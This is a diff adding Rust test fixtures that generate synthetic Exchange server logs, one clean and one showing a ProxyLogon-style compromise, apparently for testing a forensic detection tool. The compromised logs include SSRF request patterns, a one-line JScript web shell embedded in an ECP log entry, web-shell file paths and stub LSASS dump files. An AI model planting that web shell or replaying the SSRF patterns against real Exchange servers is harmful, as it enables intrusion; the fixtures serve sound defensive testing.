@@ -1,0 +1,453 @@
+//! Builders for server trees used by the end-to-end tests and for the shipped `examples/`.
+//! Every value is synthetic (contoso.local, documentation IP ranges), shaped like the field
+//! guide's samples. `examples/` is generated from here (`cargo test --test examples -- --ignored`)
+//! and a test checks the committed copy has not drifted.
+#![allow(dead_code)]
+
+#[path = "evtx_writer.rs"]
+mod evtx_writer;
+
+use evtx_writer::{EvtxEvent, write_evtx};
+use std::path::Path;
+
+pub const X: &str = "Program Files/Microsoft/Exchange Server/V15";
+pub const FIELDS: &str = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus";
+pub const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.150 Safari/537.36";
+
+pub fn write(root: &Path, rel: &str, content: &[u8]) {
+    let p = root.join(rel);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, content).unwrap();
+}
+
+fn guid(n: u64) -> String {
+    let h = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0x5bd1_e995;
+    format!(
+        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
+        h >> 32,
+        (h >> 16) & 0xffff,
+        h & 0xfff,
+        (h >> 20) & 0xfff,
+        h.wrapping_mul(31) & 0xffff_ffff_ffff
+    )
+}
+
+/// One HttpProxy line with all 74 columns: benign defaults overridden by `kv`.
+pub fn hp_line(n: u64, time: &str, kv: &[(&str, &str)]) -> String {
+    let names: Vec<&str> = FIELDS.split(',').collect();
+    let mut vals: Vec<String> = vec![String::new(); names.len()];
+    let set = |vals: &mut Vec<String>, k: &str, v: &str| {
+        let i = names
+            .iter()
+            .position(|n| *n == k)
+            .unwrap_or_else(|| panic!("no column {k}"));
+        vals[i] = v.to_string();
+    };
+    for (k, v) in [
+        ("MajorVersion", "15"),
+        ("MinorVersion", "1"),
+        ("BuildVersion", "2106"),
+        ("RevisionVersion", "2"),
+        ("Protocol", "Owa"),
+        ("UrlHost", "mail.contoso.com"),
+        ("UrlStem", "/owa/service.svc"),
+        ("ProtocolAction", "GetItem"),
+        ("AuthenticationType", "Negotiate"),
+        ("IsAuthenticated", "true"),
+        ("AuthenticatedUser", "CONTOSO\\jdoe"),
+        (
+            "AnchorMailbox",
+            "Sid~S-1-5-21-1004336348-1177238915-682003330-1108",
+        ),
+        ("UserAgent", CHROME),
+        ("ClientIpAddress", "198.51.100.23"),
+        ("ServerHostName", "EX01"),
+        ("HttpStatus", "200"),
+        ("BackEndStatus", "200"),
+        ("Method", "POST"),
+        ("ProxyAction", "Proxy"),
+        ("TargetServer", "ex02.contoso.local"),
+        ("TargetServerVersion", "15.01.2106.002"),
+        ("RoutingType", "IntraForest"),
+        ("RoutingHint", "WindowsIdentity"),
+        ("RequestBytes", "1311"),
+        ("ResponseBytes", "9624"),
+        ("TotalRequestTime", "38"),
+    ] {
+        set(&mut vals, k, v);
+    }
+    set(&mut vals, "DateTime", time);
+    set(&mut vals, "RequestId", &guid(n));
+    set(
+        &mut vals,
+        "GenericInfo",
+        &format!(
+            "BeginRequest={time};CorrelationID=<empty>;ProxyState-Run=None;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest={time};"
+        ),
+    );
+    for (k, v) in kv {
+        set(&mut vals, k, v);
+    }
+    let mut w = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    w.write_record(&vals).unwrap();
+    String::from_utf8(w.into_inner().unwrap()).unwrap()
+}
+
+/// A whole HttpProxy file: plain header line first, then the `#` block, then the lines.
+pub fn hp_file(date_iso: &str, lines: &[String]) -> Vec<u8> {
+    let mut s = format!(
+        "{FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: HttpProxy Logs\r\n#Date: {date_iso}\r\n#Fields: {FIELDS}\r\n"
+    );
+    for l in lines {
+        s.push_str(l);
+    }
+    s.into_bytes()
+}
+
+/// Benign traffic for one protocol over a day.
+pub fn benign(n0: u64, day: &str, protocol: &str, stem: &str, count: u64) -> Vec<String> {
+    (0..count)
+        .map(|i| {
+            let t = format!(
+                "{day}T{:02}:{:02}:{:02}.{:03}Z",
+                8 + i % 10,
+                (i * 7) % 60,
+                (i * 13) % 60,
+                (i * 37) % 1000
+            );
+            hp_line(
+                n0 + i,
+                &t,
+                &[
+                    ("Protocol", protocol),
+                    ("UrlStem", stem),
+                    ("ClientIpAddress", &format!("198.51.100.{}", 10 + i % 40)),
+                ],
+            )
+        })
+        .collect()
+}
+
+pub const PROTOCOLS: [(&str, &str); 11] = [
+    ("Autodiscover", "/Autodiscover/Autodiscover.xml"),
+    ("Eas", "/Microsoft-Server-ActiveSync/default.eas"),
+    ("Ecp", "/ecp/PersonalSettings/HomePage.aspx"),
+    ("Ews", "/EWS/Exchange.asmx"),
+    ("Mapi", "/mapi/emsmdb/"),
+    ("Oab", "/OAB/5d0c7a3e-91f2-4c6b-8e2a-3b7f0e1d9c44/oab.xml"),
+    ("Owa", "/owa/service.svc"),
+    ("OwaCalendar", "/owa/calendar/calendar.html"),
+    ("PowerShell", "/powershell"),
+    ("RpcHttp", "/rpc/rpcproxy.dll"),
+    ("Rest", "/api/v2.0/me/messages"),
+];
+
+pub fn ecp_file(lines: &[&str]) -> Vec<u8> {
+    let mut s = String::from(
+        "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: 2020-12-31T00:00:01.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n",
+    );
+    for l in lines {
+        s.push_str(l);
+        s.push_str("\r\n");
+    }
+    s.into_bytes()
+}
+
+pub const ECP_BENIGN: [&str; 3] = [
+    "2020-12-31T09:02:11.532Z,EX01,ECP.Request,S:TIME=18;S:SID=3b1f6a2c-9d4e-4c17-8a25-e60f1b7d9c32;S:CMD=Get-Mailbox;S:REQID=;S:URL=/ecp/UsersGroups/Mailboxes.svc/GetList?msExchEcpCanary=Tm9wZQ;S:REFERRER=;S:EX=;S:ACTID=1a7e0c55-3f2b-4e91-9d68-b0c4f7a2e813;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=e2d94b10-6c3a-4f7e-8b25-71a0c9d3f4e6;S:EDOID=;S:ACID=",
+    "2021-01-15T10:12:40.001Z,EX01,ECP.Request,S:TIME=51;S:SID=3b1f6a2c-9d4e-4c17-8a25-e60f1b7d9c32;'S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://mail.contoso.com/owa''.Identity=''EX01\\owa (Default Web Site)''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=Tm9wZQ;S:REFERRER=;S:EX=;S:ACTID=2b7e0c55-3f2b-4e91-9d68-b0c4f7a2e813;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=e2d94b10-6c3a-4f7e-8b25-71a0c9d3f4e6;S:EDOID=;S:ACID=",
+    "2021-03-05T16:40:02.117Z,EX01,ECP.Request,S:TIME=22;S:SID=3b1f6a2c-9d4e-4c17-8a25-e60f1b7d9c32;S:CMD=Get-OabVirtualDirectory;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList?schema=OABVirtualDirectory&msExchEcpCanary=Tm9wZQ;S:REFERRER=;S:EX=;S:ACTID=3c7e0c55-3f2b-4e91-9d68-b0c4f7a2e813;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=e2d94b10-6c3a-4f7e-8b25-71a0c9d3f4e6;S:EDOID=;S:ACID=",
+];
+
+pub const ECP_MALICIOUS: &str = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;S:SID=8c0f2e71-5a4d-4b39-a6e2-0d9b3c7f1e58;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zq7w""],""unsafe"");}</script>''.Identity=''5d0c7a3e-91f2-4c6b-8e2a-3b7f0e1d9c44''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA;S:REFERRER=;S:EX=;S:ACTID=47b2d9e0-8c13-4f6a-b5e7-2a9c0d4e1f73;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=9f3a7c21-0b5e-4d8a-a1c6-e74b2d09f5c8;S:EDOID=;S:ACID=""#;
+
+pub fn oab_line(time: &str, path: &str) -> String {
+    format!(
+        "{time},EX01,OABGenerator,Warning,Download failed and temporary file '{path}' needs to be removed\r\n"
+    )
+}
+
+pub const OAB_TEMP: &str = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\2f1c9a7e-5b3d-4e8a-9c61-7d0e4b2a8f15\\oab.lzx";
+
+pub fn iis_file(lines: &[&str]) -> Vec<u8> {
+    let mut s = String::from(
+        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2020-12-31 00:00:03\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n",
+    );
+    for l in lines {
+        s.push_str(l);
+        s.push_str("\r\n");
+    }
+    s.into_bytes()
+}
+
+pub fn ms(iso: &str) -> i64 {
+    iso.parse::<jiff::Timestamp>().unwrap().as_millisecond()
+}
+
+pub fn app_event(
+    id: u64,
+    iso: &str,
+    provider: &str,
+    level: u8,
+    event_id: u16,
+    data: &str,
+) -> EvtxEvent {
+    EvtxEvent {
+        record_id: id,
+        unix_ms: ms(iso),
+        provider: provider.into(),
+        event_id,
+        level,
+        channel: "Application".into(),
+        computer: "EX01.contoso.local".into(),
+        data: vec![data.into(), "EX01".into()],
+        ..Default::default()
+    }
+}
+
+fn common_benign(root: &Path) {
+    for (i, (proto, stem)) in PROTOCOLS.iter().enumerate() {
+        let n = i as u64 * 1000;
+        let mut lines = benign(n, "2020-12-31", proto, stem, 6);
+        lines.extend(benign(n + 100, "2021-03-15", proto, stem, 4));
+        write(
+            root,
+            &format!("{X}/Logging/HttpProxy/{proto}/HttpProxy_2020123108-1.LOG"),
+            &hp_file("2020-12-31T08:00:00.010Z", &lines),
+        );
+    }
+}
+
+fn benign_events() -> Vec<EvtxEvent> {
+    vec![
+        app_event(
+            1,
+            "2020-12-30T23:10:00Z",
+            "MSExchange ADAccess",
+            4,
+            2080,
+            "Process MSExchangeHMWorker.exe (PID=4242). Exchange Active Directory Provider has discovered the following servers",
+        ),
+        app_event(
+            2,
+            "2021-01-20T02:00:00Z",
+            "MSExchange Unified Messaging",
+            3,
+            1400,
+            "The Unified Messaging service could not reach a dial plan: System.TimeoutException",
+        ),
+        app_event(
+            3,
+            "2021-03-15T12:00:00Z",
+            "MSExchangeTransport",
+            4,
+            12014,
+            "Certificate for SMTP found",
+        ),
+    ]
+}
+
+/// A clean server: every log source present, reaching back before 2021-01-01, benign
+/// look-alikes (an admin setting a plain URL, a legitimate OAB temp path, a localhost probe).
+pub fn build_clean(root: &Path) {
+    common_benign(root);
+    let probe = hp_line(
+        90_001,
+        "2021-03-09T11:00:00.000Z",
+        &[
+            ("Protocol", "Owa"),
+            ("UrlStem", "/owa/auth/x.js"),
+            ("Method", "GET"),
+            ("IsAuthenticated", "false"),
+            ("AuthenticatedUser", ""),
+            ("AnchorMailbox", "ServerInfo~localhost/owa/auth/logon.aspx?"),
+            (
+                "UserAgent",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            ),
+            ("ClientIpAddress", "192.0.2.10"),
+            ("RoutingHint", "X-BEResource-Cookie"),
+            ("HttpStatus", "200"),
+        ],
+    );
+    write(
+        root,
+        &format!("{X}/Logging/HttpProxy/Owa/HttpProxy_2021030911-1.LOG"),
+        &hp_file("2021-03-09T11:00:00.000Z", &[probe]),
+    );
+    write(
+        root,
+        &format!("{X}/Logging/ECP/Server/ECPServer20201231-1.LOG"),
+        &ecp_file(&ECP_BENIGN),
+    );
+    let mut oab = oab_line("2020-12-31T03:00:00.000Z", OAB_TEMP);
+    oab += &oab_line("2021-03-14T03:00:00.000Z", OAB_TEMP);
+    write(
+        root,
+        &format!("{X}/Logging/OABGeneratorLog/OABGenerator20201231-1.LOG"),
+        oab.as_bytes(),
+    );
+    write(
+        root,
+        "inetpub/logs/LogFiles/W3SVC1/u_ex201231.log",
+        &iis_file(&[
+            "2020-12-31 08:00:01 10.20.0.15 GET /owa/ &CorrelationID=<empty>;&cafeReqId=0b6f2c1e-88a4-4d0b-9e3f-5a7d21c4e9ab;&encoding=; 443 - 198.51.100.23 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 302 0 0 15",
+            "2021-03-15 09:00:01 10.20.0.15 POST /owa/service.svc action=GetItem&CorrelationID=<empty>;&cafeReqId=1b6f2c1e-88a4-4d0b-9e3f-5a7d21c4e9ab; 443 CONTOSO\\jdoe 198.51.100.23 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 31",
+        ]),
+    );
+    write(
+        root,
+        "Windows/System32/winevt/Logs/Application.evtx",
+        &write_evtx(&benign_events()),
+    );
+    write(
+        root,
+        "Windows/Temp/setup-log.txt",
+        b"installer finished\r\n",
+    );
+    write(
+        root,
+        "ProgramData/Microsoft/readme.txt",
+        b"nothing to see\r\n",
+    );
+}
+
+/// A compromised server: the ProxyLogon chain of the field guide on 2021-02-11, a BackEndCookie-only
+/// SSRF (the form Test-ProxyLogon misses), the 27065 ECP write, the 26858 OAB write, the 26857
+/// UM error, an LSASS dump and a staging archive.
+pub fn build_compromised(root: &Path) {
+    common_benign(root);
+    let atk = |n: u64, t: &str, stem: &str, anchor: &str, status: &str, extra: &[(&str, &str)]| {
+        let mut kv = vec![
+            ("Protocol", "Ecp"),
+            ("UrlStem", stem),
+            ("ProtocolAction", ""),
+            ("AuthenticationType", ""),
+            ("IsAuthenticated", "false"),
+            ("AuthenticatedUser", ""),
+            ("AnchorMailbox", anchor),
+            ("UserAgent", "python-requests/2.25.1"),
+            ("ClientIpAddress", "203.0.113.57"),
+            ("HttpStatus", status),
+            ("BackEndStatus", status),
+            ("TargetServer", "ex01.contoso.local"),
+            ("RoutingType", ""),
+            ("RoutingHint", "X-BEResource-Cookie"),
+        ];
+        kv.extend_from_slice(extra);
+        hp_line(n, t, &kv)
+    };
+    let mut ecp = benign(
+        50_000,
+        "2021-02-11",
+        "Ecp",
+        "/ecp/PersonalSettings/HomePage.aspx",
+        3,
+    );
+    ecp.extend([
+        atk(50_101, "2021-02-11T04:27:01.310Z", "/ecp/y.js", "ServerInfo~zz]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#", "200", &[]),
+        atk(50_102, "2021-02-11T04:28:10.022Z", "/ecp/y.js", "ServerInfo~zz]@ex01.contoso.local:444/mapi/emsmdb/?#", "200", &[]),
+        atk(50_103, "2021-02-11T04:29:44.908Z", "/ecp/q.js", "ServerInfo~zz]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#", "241", &[]),
+        atk(50_104, "2021-02-11T04:30:12.540Z", "/ecp/q.js", "ServerInfo~zz]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA#", "200", &[]),
+        atk(50_105, "2021-02-11T04:30:58.101Z", "/ecp/q.js", "ServerInfo~zz]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA#", "200", &[]),
+        atk(50_106, "2021-02-11T04:31:20.733Z", "/ecp/q.js", "ServerInfo~zz]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=VGVzdA#", "200", &[]),
+    ]);
+    write(
+        root,
+        &format!("{X}/Logging/HttpProxy/Ecp/HttpProxy_2021021104-1.LOG"),
+        &hp_file("2021-02-11T04:00:00.050Z", &ecp),
+    );
+    let mut mapi = benign(60_000, "2021-03-03", "Mapi", "/mapi/emsmdb/", 3);
+    mapi.push(hp_line(
+        60_101,
+        "2021-03-03T22:05:17.402Z",
+        &[
+            ("Protocol", "Mapi"),
+            ("UrlStem", "/mapi/emsmdb/"),
+            ("IsAuthenticated", "false"),
+            ("AuthenticatedUser", ""),
+            (
+                "AnchorMailbox",
+                "Sid~S-1-5-21-1004336348-1177238915-682003330-500",
+            ),
+            ("UserAgent", "ExchangeServicesClient/0.0.0.0"),
+            ("ClientIpAddress", "203.0.113.88"),
+            (
+                "BackEndCookie",
+                "Server~ex01.contoso.local:444/mapi/emsmdb/?~1942062522",
+            ),
+        ],
+    ));
+    write(
+        root,
+        &format!("{X}/Logging/HttpProxy/Mapi/HttpProxy_2021030322-1.LOG"),
+        &hp_file("2021-03-03T22:00:00.050Z", &mapi),
+    );
+    let probe = hp_line(
+        70_001,
+        "2021-03-09T11:00:00.000Z",
+        &[
+            ("Protocol", "Owa"),
+            ("UrlStem", "/owa/auth/x.js"),
+            ("Method", "GET"),
+            ("IsAuthenticated", "false"),
+            ("AuthenticatedUser", ""),
+            ("AnchorMailbox", "ServerInfo~localhost/owa/auth/logon.aspx?"),
+            (
+                "UserAgent",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            ),
+            ("ClientIpAddress", "192.0.2.10"),
+            ("RoutingHint", "X-BEResource-Cookie"),
+        ],
+    );
+    write(
+        root,
+        &format!("{X}/Logging/HttpProxy/Owa/HttpProxy_2021030911-1.LOG"),
+        &hp_file("2021-03-09T11:00:00.000Z", &[probe]),
+    );
+    let mut ecp_lines: Vec<&str> = ECP_BENIGN.to_vec();
+    ecp_lines.insert(2, ECP_MALICIOUS);
+    write(
+        root,
+        &format!("{X}/Logging/ECP/Server/ECPServer20201231-1.LOG"),
+        &ecp_file(&ecp_lines),
+    );
+    let mut oab = oab_line("2020-12-31T03:00:00.000Z", OAB_TEMP);
+    oab += &oab_line(
+        "2021-02-11T04:31:25.000Z",
+        "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\zq7w.aspx",
+    );
+    oab += &oab_line("2021-03-14T03:00:00.000Z", OAB_TEMP);
+    write(
+        root,
+        &format!("{X}/Logging/OABGeneratorLog/OABGenerator20201231-1.LOG"),
+        oab.as_bytes(),
+    );
+    write(
+        root,
+        "inetpub/logs/LogFiles/W3SVC1/u_ex210211.log",
+        &iis_file(&[
+            "2020-12-31 08:00:01 10.20.0.15 GET /owa/ &CorrelationID=<empty>;&cafeReqId=0b6f2c1e-88a4-4d0b-9e3f-5a7d21c4e9ab;&encoding=; 443 - 198.51.100.23 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 302 0 0 15",
+            "2021-02-11 04:29:44 10.20.0.15 POST /ecp/q.js &CorrelationID=<empty>;&cafeReqId=6e1d4a7b-2c90-4f3e-b5d8-19a0c7e4f265; 443 - 203.0.113.57 python-requests/2.25.1 - 241 0 0 57",
+            "2021-03-04 22:11:02 10.20.0.15 POST /aspnet_client/system_web/zq7w.aspx - 443 - 203.0.113.88 antSword/v2.1 - 200 0 0 143",
+        ]),
+    );
+    let mut events = benign_events();
+    events.insert(2, app_event(4, "2021-02-11T04:35:09Z", "MSExchange Unified Messaging", 2, 1000,
+        "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMMessage'."));
+    write(
+        root,
+        "Windows/System32/winevt/Logs/Application.evtx",
+        &write_evtx(&events),
+    );
+    let mut dump = b"MDMP\x93\xa7".to_vec();
+    dump.resize(64, 0);
+    write(root, "Windows/Temp/lsass.dmp", &dump);
+    // an empty ZIP archive (end-of-central-directory record only)
+    let mut zip = b"PK\x05\x06".to_vec();
+    zip.resize(22, 0);
+    write(root, "ProgramData/it.zip", &zip);
+}
